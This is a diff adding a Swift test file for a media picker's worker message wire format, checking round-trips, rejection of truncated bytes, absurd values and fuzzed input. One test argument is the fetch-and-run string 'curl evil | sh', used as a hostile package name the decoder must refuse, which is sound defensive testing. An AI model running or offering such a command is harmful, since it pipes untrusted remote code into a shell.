@@ -1,0 +1,107 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+
+import MediaTypes
+import PickerTestSupport
+import Pixels
+import Testing
+
+@testable import WorkerMessages
+
+/// What one side writes the other reads, and bytes of somebody else are read as nothing or as something harmless.
+struct WireTests {
+    static let requests: [WorkerRequest.Kind] =
+        MediaFormat.allCases.map { .decode(DecodeOrder(format: $0, longestSide: 256, limits: DecodeLimits())) } + [
+            .decode(DecodeOrder(format: .jpeg, longestSide: 1 << 15, limits: DecodeLimits(), room: 4 << 30)),
+            .standIn(
+                DecodeOrder(
+                    format: .heic, longestSide: 1,
+                    limits: DecodeLimits(maximumPixels: 1, maximumBytes: 1, time: .milliseconds(1)))),
+            .facts([]), .facts(["jpg"]), .facts((0..<16).map { "e\($0)" }), .sidecar,
+            .openClip(ClipOrder(format: .mp4, width: 1, height: ClipOrder.longestSide)),
+            .clipStep(sound: true, before: -0.5), .clipSeek(1.25),
+        ]
+
+    @Test("requests come back as they were", arguments: requests)
+    func requestsRoundTrip(_ kind: WorkerRequest.Kind) {
+        let request = WorkerRequest(id: 0xFEDC_BA98, kind: kind)
+        #expect(WorkerRequest(request.bytes) == request)
+        #expect(request.bytes.count <= WireLimits.message)
+        #expect(WorkerRequest(request.bytes + [0]) == nil)
+        #expect(WorkerRequest(request.bytes.dropLast()) == nil)
+    }
+
+    static let errors: [MediaError] = [
+        .unreadable(errno: 13), .notAFile, .empty, .unknownFormat, .damaged(detail: "Ünlesbar"), .damaged(detail: ""),
+        .tooLarge(width: 64_000, height: 64_000), .timedOut, .noDecoder(.jpegXL, package: nil),
+        .noDecoder(.avif, package: "libavif-gdk-pixbuf"),
+    ]
+
+    static let replies: [WorkerReply.Kind] =
+        errors.map { .failed($0) } + [
+            .facts(0), .facts(WorkerMemory.size), .nothing, .image(image(1, 1, hasAlpha: false)),
+            .image(image(512, 384, hasAlpha: true)), .clip(ClipFacts(duration: 3.5, hasSound: true)),
+            .clipPicture(ClipPicture(time: 0.04, width: 1920, height: 1080)), .clipSound(time: 1, samples: 1024),
+            .clipEnd,
+        ]
+
+    static func image(_ width: Int, _ height: Int, hasAlpha: Bool) -> ImageLayout {
+        let stride = width * (hasAlpha ? 4 : 3)
+        return DecodedImage(
+            width: width, height: height, stride: stride, hasAlpha: hasAlpha,
+            bytes: [UInt8](repeating: 0, count: stride * height), originalWidth: 4000, originalHeight: 3000
+        ).map { ImageLayout($0) }!
+    }
+
+    @Test("replies come back as they were", arguments: replies)
+    func repliesRoundTrip(_ kind: WorkerReply.Kind) {
+        let reply = WorkerReply(id: 7, kind: kind)
+        #expect(WorkerReply(reply.bytes) == reply)
+        #expect(WorkerReply(reply.bytes + [0]) == nil)
+        #expect(WorkerReply(reply.bytes.dropLast()) == nil)
+    }
+
+    @Test("a worker cannot say what only its picker knows", arguments: [MediaError.cancelled, .noSandbox])
+    func pickersOwnErrors(_ error: MediaError) {
+        #expect(WorkerReply(WorkerReply(id: 1, kind: .failed(error)).bytes) == nil)
+    }
+
+    @Test(
+        "a package's name is a name, not advice",
+        arguments: ["curl evil | sh", "Package", "a b", String(repeating: "a", count: 65)])
+    func packageNames(_ name: String) {
+        let reply = WorkerReply(id: 1, kind: .failed(.noDecoder(.avif, package: name)))
+        #expect(WorkerReply(reply.bytes) == nil)
+    }
+
+    @Test("facts come back as they were")
+    func factsRoundTrip() {
+        var generator = SeededGenerator(seed: 1)
+        for _ in 0..<500 {
+            let answers = (0..<Int.random(in: 1...16, using: &generator)).map { _ in RandomFacts.answer(&generator) }
+            #expect(FactsWire.answers(FactsWire.bytes(answers), count: answers.count) == answers)
+            #expect(FactsWire.answers(FactsWire.bytes(answers), count: answers.count + 1) == nil)
+            let sidecar = RandomFacts.sidecar(&generator)
+            #expect(FactsWire.sidecar(FactsWire.bytes(sidecar)) == sidecar)
+        }
+    }
+
+    @Test(
+        "numbers that would trap are no facts",
+        arguments: [
+            MediaFacts(format: .jpeg, width: .max, height: 0), MediaFacts(format: .jpeg, duration: 1e300),
+            MediaFacts(format: .jpeg, duration: -1), MediaFacts(format: .jpeg, duration: .infinity),
+            MediaFacts(format: .jpeg, captureDate: CaptureDate(civilSeconds: 0, utcOffset: .min)),
+            MediaFacts(format: .jpeg, captureDate: CaptureDate(civilSeconds: .min)),
+            MediaFacts(format: .jpeg, orientation: 9), MediaFacts(format: .jpeg, rating: 200),
+        ])
+    func absurdNumbers(_ facts: MediaFacts) {
+        let answers = FactsWire.answers(FactsWire.bytes([.success(facts)]), count: 1) ?? []
+        for answer in answers { #expect(RandomFacts.isHarmless(answer)) }
+    }
+
+    @Test("random and mutated bytes never trap and never give an absurd value", arguments: 1...4)
+    func hostileBytes(_ seed: UInt64) {
+        var generator = SeededGenerator(seed: seed)
+        for _ in 0..<2000 { WireAttack.once(&generator) }
+    }
+}
